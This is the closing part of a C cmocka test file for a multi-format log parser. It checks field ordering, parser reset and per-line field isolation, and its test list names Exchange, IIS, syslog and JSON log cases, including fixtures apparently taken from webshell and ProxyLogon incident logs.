    weir_event_destroy(ev);
    weir_parser_destroy(p);
}

static void test_parser_reset_forgets_the_header_layout(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "iis_real.log");
    weir_parser *p = new_parser(WEIR_FMT_IIS);
    weir_event *ev = new_event(0);
    parse_str(p, ev, "#Fields: date time cs-method");
    assert_int_equal(parse_fx(p, ev, &fx, 6), WEIR_PARSE_MALFORMED);
    weir_parser_reset(p);
    assert_int_equal(parse_fx(p, ev, &fx, 6), WEIR_PARSE_OK);
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

/* ---- event object ----------------------------------------------------------------------- */

static void test_fields_iterate_in_the_order_they_were_set(void **state)
{
    (void)state;
    fixture fx;
    fx_load(&fx, "syslog_postfix.log");
    weir_parser *p = new_parser(WEIR_FMT_SYSLOG);
    weir_event *ev = new_event(0);
    parse_fx(p, ev, &fx, 0);
    static const char *const want[] = {"timestamp", "hostname", "program", "pid", "message"};
    assert_int_equal(weir_event_nfields(ev), 5);
    for (size_t i = 0; i < 5; i++)
        assert_string_equal(weir_field_name(weir_event_field_id(ev, i)), want[i]);
    assert_int_equal(weir_event_field_id(ev, 5), -1);
    weir_event_destroy(ev);
    weir_parser_destroy(p);
    fx_free(&fx);
}

static void test_fields_of_a_previous_line_do_not_leak_into_the_next(void **state)
{
    (void)state;
    fixture iis, pf;
    fx_load(&iis, "iis_real.log");
    fx_load(&pf, "syslog_postfix.log");
    weir_parser *pi = new_parser(WEIR_FMT_IIS), *ps = new_parser(WEIR_FMT_SYSLOG);
    weir_event *ev = new_event(0);
    assert_null(weir_event_get(ev, WEIR_F_TIMESTAMP)); /* nothing before the first parse */
    parse_fx(pi, ev, &iis, 6);
    assert_non_null(weir_event_get(ev, WEIR_F_C_IP));
    parse_fx(ps, ev, &pf, 0);
    expect_absent(ev, WEIR_F_C_IP);
    expect_absent(ev, WEIR_F_C_URI);
    expect_field(ev, WEIR_F_HOSTNAME, "evita");
    assert_null(weir_event_get(ev, -1));
    assert_null(weir_event_get(ev, WEIR_FIELD__COUNT));
    weir_event_destroy(ev);
    weir_parser_destroy(pi);
    weir_parser_destroy(ps);
    fx_free(&iis);
    fx_free(&pf);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_field_lookup_is_case_insensitive_and_knows_aliases),
        cmocka_unit_test(test_every_field_name_and_alias_resolves_to_its_own_id),
        cmocka_unit_test(test_format_names_round_trip_case_insensitively),
        cmocka_unit_test(test_iis_default_layout_parses_real_webshell_command_line),
        cmocka_unit_test(test_iis_header_lines_are_reported_not_scanned),
        cmocka_unit_test(test_iis_fields_header_redefines_the_layout_for_later_lines),
        cmocka_unit_test(test_iis_dash_is_an_empty_value_and_the_raw_dash_is_kept),
        cmocka_unit_test(test_iis_user_agent_plus_signs_are_spaces),
        cmocka_unit_test(test_c_uri_joins_iis_stem_and_query_with_a_question_mark),
        cmocka_unit_test(test_cs_uri_query_is_the_full_uri_and_the_query_alone_stays_raw),
        cmocka_unit_test(test_iis_uri_fields_are_percent_decoded_and_raw_kept),
        cmocka_unit_test(test_iis_real_benign_lines_parse),
        cmocka_unit_test(test_iis_line_with_too_few_columns_is_malformed),
        cmocka_unit_test(test_iis_line_with_too_many_columns_is_malformed),
        cmocka_unit_test(test_crlf_line_ending_is_not_part_of_the_last_column),
        cmocka_unit_test(test_httpproxy_real_header_and_benign_line_parse),
        cmocka_unit_test(test_httpproxy_native_columns_are_reachable_by_either_name),
        cmocka_unit_test(test_test_proxylogon_export_header_row_and_quoted_values),
        cmocka_unit_test(test_csv_quoted_value_keeps_commas_and_undoubles_quotes),
        cmocka_unit_test(test_csv_unterminated_quote_is_malformed),
        cmocka_unit_test(test_csv_text_after_a_closing_quote_is_malformed),
        cmocka_unit_test(test_fields_header_over_128_columns_is_refused_and_old_layout_kept),
        cmocka_unit_test(test_every_documented_column_is_a_named_field),
        cmocka_unit_test(test_ecp_real_set_virtual_directory_line_exposes_the_cmdlet),
        cmocka_unit_test(test_ecp_single_quoted_pair_keeps_its_semicolons_and_later_pairs),
        cmocka_unit_test(test_ecp_default_layout_splits_event_data_pairs),
        cmocka_unit_test(test_oab_line_is_exposed_as_its_message),
        cmocka_unit_test(test_rpshttp_default_layout_exposes_client_info_and_uri),
        cmocka_unit_test(test_smtpreceive_default_layout_unquotes_data_with_commas),
        cmocka_unit_test(test_msgtrack_fields_stay_native_not_web_taxonomy),
        cmocka_unit_test(test_syslog_postfix_line_yields_host_program_pid_and_message),
        cmocka_unit_test(test_syslog_rfc3164_with_pri_and_padded_day),
        cmocka_unit_test(test_syslog_rfc5424_with_structured_data),
        cmocka_unit_test(test_syslog_rfc5424_nil_values_leave_fields_unset),
        cmocka_unit_test(test_syslog_rfc3339_file_format_is_accepted),
        cmocka_unit_test(test_syslog_without_pri_or_timestamp_is_malformed),
        cmocka_unit_test(test_syslog_unterminated_structured_data_is_malformed),
        cmocka_unit_test(test_combined_request_gives_method_uri_stem_and_query),
        cmocka_unit_test(test_combined_backslash_escaped_quote_in_user_agent),
        cmocka_unit_test(test_common_log_without_referer_and_agent_parses),
        cmocka_unit_test(test_combined_garbage_request_line_leaves_uri_unset),
        cmocka_unit_test(test_combined_without_bracketed_time_is_malformed),
        cmocka_unit_test(test_json_envelope_maps_nested_ecs_fields),
        cmocka_unit_test(test_json_dotted_keys_escapes_and_url_original),
        cmocka_unit_test(test_json_that_does_not_parse_is_malformed),
        cmocka_unit_test(test_json_nested_deeper_than_32_is_malformed),
        cmocka_unit_test(test_empty_line_is_malformed_in_every_format),
        cmocka_unit_test(test_binary_garbage_is_malformed_except_as_oab_text),
        cmocka_unit_test(test_truncated_iis_line_is_malformed),
        cmocka_unit_test(test_every_prefix_of_every_fixture_line_parses_or_is_malformed),
        cmocka_unit_test(test_random_structural_bytes_never_break_a_parser),
        cmocka_unit_test(test_one_megabyte_line_is_cut_at_max_line_and_flagged),
        cmocka_unit_test(test_one_megabyte_line_parses_whole_when_max_line_allows),
        cmocka_unit_test(test_one_megabyte_json_line_is_malformed_as_cut),
        cmocka_unit_test(test_max_line_above_the_limit_is_refused_with_a_reason),
        cmocka_unit_test(test_auto_detects_each_format_from_the_line_shape),
        cmocka_unit_test(test_auto_fields_header_selects_format_and_layout),
        cmocka_unit_test(test_auto_reads_exchange_headers_and_export_csv_rows),
        cmocka_unit_test(test_auto_log_type_alone_selects_oab),
        cmocka_unit_test(test_auto_header_format_applies_only_to_lines_of_its_family),
        cmocka_unit_test(test_auto_csv_line_with_unknown_column_count_needs_a_header),
        cmocka_unit_test(test_parser_reset_forgets_the_header_layout),
        cmocka_unit_test(test_fields_iterate_in_the_order_they_were_set),
        cmocka_unit_test(test_fields_of_a_previous_line_do_not_leak_into_the_next),
    };
    int rc = cmocka_run_group_tests(tests, NULL, NULL);
    free(str_copy);
    return rc;
}
